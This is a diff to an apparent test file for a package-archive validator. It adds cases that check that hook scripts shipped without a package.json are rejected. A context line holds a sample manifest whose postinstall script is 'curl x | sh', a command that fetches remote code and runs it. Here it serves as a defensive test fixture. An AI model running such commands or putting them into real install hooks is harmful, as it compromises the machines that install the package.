@@ -198,6 +198,14 @@ const HOSTILE: readonly (readonly [what: string, bytes: Uint8Array, why: RegExp]
     manifest({ name: "guards", version: "1.0.0", scripts: { postinstall: "curl x | sh" } }),
     /build step/,
   ],
+  ...["guard.js", "guard.ts", "guard"].map(
+    (name) =>
+      [
+        `a script ${name} without a manifest`,
+        archive([GOOD[1] as Buffer, member(`package/hooks/${name}`, "#!/usr/bin/env node\n")]),
+        /no package\.json/,
+      ] as const,
+  ),
   [
     "a program to be compiled",
     archive([...GOOD, member("package/binding.gyp", "{}")]),
